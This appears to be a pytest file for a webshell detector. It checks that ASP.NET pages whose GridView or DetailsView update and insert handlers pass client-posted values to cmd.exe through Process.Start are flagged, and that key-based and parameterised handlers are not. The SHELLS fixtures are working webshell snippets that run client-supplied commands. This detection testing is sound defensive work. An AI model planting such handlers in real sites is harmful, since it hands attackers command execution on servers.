"""What the client types into a data control's row or form reaches the page through the edit
events' arguments: `e.NewValues` of a GridView's, DetailsView's, FormView's or ListView's update
and `e.Values` of their inserts are the posted values, as a text box's `Text` is; the keys and old
values come from the control's own state (docs/detection/webshell-code.md, "Rows the client
edits")."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found

PROCESS = "EXH-WS-CODE-PROCESS"


def cs(handler: str) -> str:
    return (
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        + handler
        + '\n</script>\n<form runat="server"><asp:GridView ID="g" runat="server" OnRowUpdating="Upd" /></form>'
    )


SHELLS = [
    (
        "grid-update.aspx",
        cs(
            "protected void Upd(object s, GridViewUpdateEventArgs e) {\n"
            '  System.Diagnostics.Process.Start("cmd.exe", "/c " + e.NewValues["c"]);\n}'
        ),
    ),
    (
        "details-insert.aspx",
        cs(
            "protected void Ins(object s, System.Web.UI.WebControls.DetailsViewInsertEventArgs args) {\n"
            '  string c = (string)args.Values["c"];\n  System.Diagnostics.Process.Start("cmd.exe", "/c " + c);\n}'
        ),
    ),
    (
        "vb-grid-update.aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Protected Sub Upd(ByVal s As Object, ByVal e As GridViewUpdateEventArgs)\n"
        '  System.Diagnostics.Process.Start("cmd.exe", "/c " & e.NewValues("c"))\nEnd Sub\n</script>',
    ),
]


@pytest.mark.parametrize(("name", "code"), SHELLS, ids=[s[0] for s in SHELLS])
def test_values_typed_into_a_row_are_the_clients(name: str, code: str) -> None:
    assert_found(name, code, PROCESS, ["values edited in a data control's row", "runs it as a command"])


BENIGN = [
    (
        "grid-keys.aspx",
        cs(
            "protected void Upd(object s, GridViewUpdateEventArgs e) {\n"
            '  System.Diagnostics.Process.Start("report.exe", e.Keys["id"].ToString());\n}'
        ),
    ),
    (
        "grid-parameters.aspx",
        cs(
            "protected void Upd(object s, GridViewUpdateEventArgs e) {\n"
            '  var c = new System.Data.SqlClient.SqlCommand("UPDATE t SET name = @n WHERE id = @id");\n'
            '  c.Parameters.AddWithValue("@n", e.NewValues["name"]);\n'
            '  c.Parameters.AddWithValue("@id", e.Keys["id"]);\n}'
        ),
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_keys_and_parameterised_updates_stay_quiet(name: str, code: str) -> None:
    assert_benign(name, code)
